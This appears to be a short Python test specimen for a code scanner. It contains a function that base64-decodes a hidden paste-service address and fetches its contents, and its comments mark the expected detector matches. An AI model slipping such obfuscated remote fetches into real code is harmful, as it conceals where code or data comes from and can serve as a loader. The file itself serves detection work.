raise SystemExit("specimen: not to be run")
import base64
import requests

def load():
    return requests.get(base64.b64decode("aHR0cHM6Ly9kcGFzdGUuY29tL3NwZWNpbWVuLnR4dA==").decode()).text  # match: paste-service  # match: encoded-literal  # match: hidden-address
